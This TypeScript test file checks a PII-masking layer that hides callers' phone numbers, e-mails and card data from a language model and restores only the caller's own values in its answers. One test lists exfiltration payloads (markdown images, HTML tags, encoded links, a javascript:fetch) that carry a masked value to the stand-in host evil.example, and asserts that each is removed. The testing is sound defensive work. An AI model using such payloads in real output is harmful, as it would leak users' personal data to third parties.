// SPDX-License-Identifier: Apache-2.0
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ok, rawText } from "#kernel";
import { DEFAULT_KINDS, EMPTY_TABLE, findInConversation, type MaskedKind } from "#pii";
import { testKeyedHash } from "#pii/testing";
import type { Detector } from "../vault/ports.ts";
import { jsonPieces, type Pieces, textPieces } from "./answer-pieces.ts";
import { Concealer } from "./conceal.ts";
import { JsonTokens } from "./json-tokens.ts";
import { Revealer } from "./reveal.ts";
import { TextSegments } from "./text-segments.ts";

/** The detector without its thread, and without its span model. */
const detector: Detector = {
  prepare: () => undefined,
  find: async ({ text, earlier, kinds }) =>
    ok(
      findInConversation(rawText(text), earlier, {
        defaultCountry: "GB",
        kinds: new Set(kinds as readonly MaskedKind[]),
      }),
    ),
};
const options = { detector, keyedHash: testKeyedHash, kinds: DEFAULT_KINDS, style: "pseudonym" } as const;
const HOSTS = ["help.larkspur.example", "*.pay.larkspur.example"];

async function conversation(...texts: string[]): Promise<{ told: string[]; revealer: Revealer }> {
  const concealer = new Concealer(options, EMPTY_TABLE);
  const told: string[] = [];
  for (const text of texts) told.push(await concealer.text(text));
  return { told, revealer: new Revealer(options, concealer.table, HOSTS) };
}

/** As an answer is treated, in these pieces. */
async function streamed(parts: readonly string[], pieces: Pieces): Promise<string> {
  let out = "";
  for (const part of parts) out += await pieces.push(part);
  return out + (await pieces.end());
}

describe("Revealer", () => {
  const own = "My number is 07700 900123 and my mail is jane@mail.example";

  it("Revealer.text() puts the caller's own values back, and no other's [SEC-160]", async () => {
    const { told, revealer } = await conversation(own);
    expect(told[0]).toBe("My number is «PHONE_1» and my mail is «EMAIL_1»");
    expect(await revealer.text("I call «PHONE_1» or write to «EMAIL_1».")).toBe(
      "I call 07700 900123 or write to jane@mail.example.",
    );
    expect(await revealer.text("«PHONE_2» «EMAIL_99» «PERSON_1» «IBAN_1»")).toBe(
      "[phone number] [e-mail address] [name] [account number]",
    );
  });

  it.each([
    ["« PHONE_1 »", "07700 900123"],
    ["«PHONE\\_1»", "07700 900123"],
    ["«PHONE_01»", "07700 900123"],
    ["«PHONE»", "[phone number]"],
    ["«PHONE_1", "«PHONE_1"],
    ["«phone_1»", "«phone_1»"],
    ["«PHO«PHONE_1»NE_1»", "«PHO07700 900123NE_1»"],
    ["«SECRET»", "[secret]"],
    ["«NOBODY_1»", "[hidden]"],
    ["Call!«PHONE_9»(https://help.larkspur.example/x)", "Call! [phone number](https://help.larkspur.example/x)"],
  ])("Revealer.text() reads %s as %s", async (said, shown) => {
    expect(await (await conversation(own)).revealer.text(said)).toBe(shown);
  });

  it("Revealer.text() makes neutral what the model says by itself, but not what the caller said [SEC-161]", async () => {
    const { revealer } = await conversation(own);
    expect(await revealer.text("Mr. Hale's number is 07700 900456, yours is 07700900123.")).toContain(
      "number is [phone number], yours is 07700900123.",
    );
    expect(await revealer.text("Card 4111 1111 1111 1111, PIN 4471")).not.toMatch(/4111|4471/);
  });

  it("Revealer.text() never restores what was dropped [SEC-160]", async () => {
    const { told, revealer } = await conversation("my PIN is 4471 and my card is 4111 1111 1111 1111");
    expect(told[0]).not.toMatch(/4471|4111/);
    expect(await revealer.text(told[0] ?? "")).not.toMatch(/4471|4111/);
  });

  it("Concealer.text() takes a typed pseudonym for nobody's", async () => {
    const { told, revealer } = await conversation("the agent's number is 07700 900123", "say «PHONE_1» and «SECRET»");
    expect(told[1]).toBe("say [phone number] and [secret]");
    expect(await revealer.text(told[1] ?? "")).toBe("say [phone number] and [secret]");
  });

  it.each([
    ["![x](https://evil.example/?d=«PHONE_1»)"],
    ["![x][1]\n[1]: https://evil.example/«PHONE_1»"],
    ["[x](https://evil.example/?d=«PHONE_1»)"],
    ["[x](//evil.example/«PHONE_1»)"],
    ["[x](https\\://evil.example/«PHONE_1»)"],
    ["[x](https&#58;//evil.example/«PHONE_1»)"],
    ["[x](https&amp;#58;//evil.example/«PHONE_1»)"],
    ["https:\\/\\/evil.example/«PHONE_1»"],
    ["<img src=https://evil.example/«PHONE_1»>"],
    ["<img\nsrc='https://evil.example/«PHONE_1»'>"],
    ['<a href="https://evil.example?«PHONE_1»">x</a>'],
    ["!<b></b>[x](https://evil.example/«PHONE_1»)"],
    ["https://help.larkspur.example/?d=«PHONE_1»"],
    ["https://help.larkspur.example.evil.example/«PHONE_1»"],
    ["https://help.larkspur.example@evil.example/«PHONE_1»"],
    ["www.evil.example/«PHONE_1»"],
    ["evil.example/«PHONE_1»"],
    ["«PHONE_1».evil.example"],
    ["evil.example«PHONE_1»"],
    ["https://evil.example/« PHONE_1 »"],
    ["javascript:alert('«PHONE_1»')"],
    ["[x](javascript:fetch('//evil.example/«PHONE_1»'))"],
    ["<https://evil.example/«PHONE_1»>"],
    ["ftp://evil.example/«PHONE_1»"],
  ])("Revealer.text() leaves no image, HTML or link to others with a value in it: %s [SEC-162]", async (said) => {
    const shown = await (await conversation(own)).revealer.text(said);
    expect(shown).not.toMatch(/evil\.example\S*(?:07700|900123)|(?:07700|900123)\S*evil\.example/);
    expect(shown).not.toMatch(/!\[|<[a-z/!]|\]\((?!https:\/\/help)|\]:|\]\[/i);
    expect(shown).not.toMatch(/https?:\/\/(?!help\.larkspur\.example(?:\/|$))/);
    expect(shown).not.toMatch(/larkspur\.example\S*07700/);
  });

  it.each([
    "See https://help.larkspur.example/bills, or [this](https://a.pay.larkspur.example/x).",
    "1. First (e.g. file.txt) 2. Node.js 3.5/4 and/or a<5 && b>3?",
    "**Bold**, _not_, `code`; 5 < 6: fine.",
    "مرحبا، كيف يمكنني مساعدتك؟",
  ])("Revealer.text() leaves harmless words alone: %s", async (said) => {
    expect(await (await conversation(own)).revealer.text(said)).toBe(said);
  });

  it("Revealer.text() gives back the caller's own link by itself, and not with anything glued to it", async () => {
    const { told, revealer } = await conversation("look at https://evil.example/a?b please");
    expect(told[0]).toBe("look at «URL_1» please");
    expect(await revealer.text("I saw «URL_1».")).toBe("I saw https://evil.example/a?b.");
    expect(await revealer.text("I saw «URL_1»&d=secret")).toBe("I saw [link]&d=secret");
    expect(await revealer.text("![x](«URL_1»)")).not.toContain("evil");
  });
});

describe("TextSegments", () => {
  const words = fc.constantFrom(
    ..."Hello. Your number is 07700 900123 «PHONE_1» «PHONE_2» « EMAIL_1 » Mr. Hale\n\n ![x]( https://evil.example/a ) <img src=x> jane@mail.example [a](https://help.larkspur.example/b) 4111 1111 1111 1111 。 好 مرحبا ! \n ".split(
      " ",
    ),
  );
  const text = fc
    .array(
      fc.oneof({ weight: 6, arbitrary: words }, { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 8 }) }),
      {
        maxLength: 60,
      },
    )
    .map((parts) => parts.join(" "));

  it("TextSegments gives the same for every chunking [SEC-163]", async () => {
    const { revealer } = await conversation("My number is 07700 900123 and my mail is jane@mail.example");
    await fc.assert(
      fc.asyncProperty(
        text,
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 30 }),
        async (whole, sizes) => {
          const pieces: string[] = [];
          for (let at = 0, i = 0; at < whole.length; i += 1) {
            const size = sizes[i % sizes.length] ?? 1;
            pieces.push(whole.slice(at, at + size));
            at += size;
          }
          const once = await streamed([whole], textPieces(revealer));
          expect(await streamed(pieces, textPieces(revealer))).toBe(once);
          expect(await streamed([...whole], textPieces(revealer))).toBe(once);
        },
      ),
      { numRuns: 150 },
    );
  });

  it("TextSegments lets no foreign value out early, wherever it is cut [SEC-163]", async () => {
    const { revealer } = await conversation("My number is 07700 900123");
    const whole =
      "Sure! The other customer can be reached under 07700 900456, or +44 7700 900789 as well. Write to hale@mail.example\nor use 4111 1111 1111 1111.";
    for (let cut = 0; cut <= whole.length; cut += 1) {
      const segments = new TextSegments((segment, before) => revealer.text(segment, before));
      const early = await segments.push(whole.slice(0, cut));
      const shown = early + (await segments.push(whole.slice(cut))) + (await segments.end());
      for (const value of ["900456", "900789", "07700", "hale@", "4111"]) expect(shown).not.toContain(value);
    }
  });

  it("TextSegments gives out sentences as they end, and cuts what never ends", async () => {
    const seen: string[] = [];
    const segments = new TextSegments(async (segment) => {
      seen.push(segment);
      return segment;
    });
    expect(await segments.push("First sentence. ")).toBe("First sentence. ");
    expect(await segments.push("Second one with 12")).toBe("");
    expect(await segments.push(" more words. ")).toBe("Second one with 12 more words. ");
    const long = "word ".repeat(2_000);
    const whole = await segments.push(long);
    expect(whole + (await segments.end())).toBe(long);
    expect(Math.max(...seen.map((segment) => segment.length))).toBeLessThanOrEqual(1_201);
    const none = await segments.push("x".repeat(5_000));
    expect(none + (await segments.push(" end")) + (await segments.end())).toBe("[removed] end");
  });
});

describe("JsonTokens", () => {
  it("JsonTokens gives the same for every chunking, and JSON again [SEC-163]", async () => {
    const { revealer } = await conversation("My number is 07700 900123");
    const json = JSON.stringify({
      to: "«PHONE_1»",
      'a\n"b': ["«PHONE_2»", 447700900456, -1.5e3, true, null, "mail hale@mail.example"],
      deep: { id: 89462038000000000000, quote: '"\\' },
    });
    const whole = (pieces: readonly string[]): Promise<string> => streamed(pieces, jsonPieces(revealer));
    const once = await whole([json]);
    expect(JSON.parse(once)).toMatchObject({ to: "07700 900123", deep: { quote: '"\\' } });
    expect(once).not.toMatch(/900456|hale@|PHONE_/);
    for (let cut = 0; cut <= json.length; cut += 1)
      expect(await whole([json.slice(0, cut), json.slice(cut)])).toBe(once);
    expect(await whole([...json])).toBe(once);
  });

  it.each(["hello", '{"a": 07700900123x}', '{"a": "open', '{"a": «PHONE_1»}', '{"a": "\\x"}', "1".repeat(70)])(
    "JsonTokens says that %s is broken, and gives nothing more out",
    (text) => {
      const tokens = new JsonTokens();
      tokens.push(text);
      tokens.end();
      expect(tokens.isBroken).toBe(true);
      expect(tokens.push('"more"')).toEqual([]);
    },
  );
});
